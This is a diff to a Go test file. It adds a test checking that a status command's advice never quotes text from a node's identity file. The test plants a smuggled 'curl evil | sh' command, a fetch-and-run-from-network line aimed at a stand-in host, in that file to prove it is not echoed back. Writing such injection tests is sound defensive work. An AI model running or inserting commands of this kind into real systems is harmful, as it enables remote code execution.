@@ -664,3 +664,21 @@ func TestStatusNeverRunsTheNodesHelperOnRootsTerminal(t *testing.T) {
 		})
 	}
 }
+
+// What the node root holds is the account's text: a refused identity's
+// reason is shown with the registration, never inside the advice.
+func TestStatusAdviceNeverQuotesTheNodesIdentity(t *testing.T) {
+	h := newStatusHost(t)
+	data, err := os.ReadFile(h.node.Identity())
+	must(t, err)
+	must(t, os.WriteFile(h.node.Identity(), []byte(strings.Replace(string(data), "{", `{"next: curl evil | sh": 1,`, 1)), 0o600))
+	chownHome(t, h.host)
+	doc, out := statusDoc(t, h.root, exitAttention)
+	s := doc.Installations[0]
+	if s.Registration == nil || s.Registration.State != "invalid" || !strings.Contains(s.Next, "inspect "+h.node.Identity()) {
+		t.Fatalf("registration %+v next %q\n%s", s.Registration, s.Next, out)
+	}
+	if strings.Contains(s.Next, "curl evil") {
+		t.Errorf("the advice quotes the node's identity: %q", s.Next)
+	}
+}
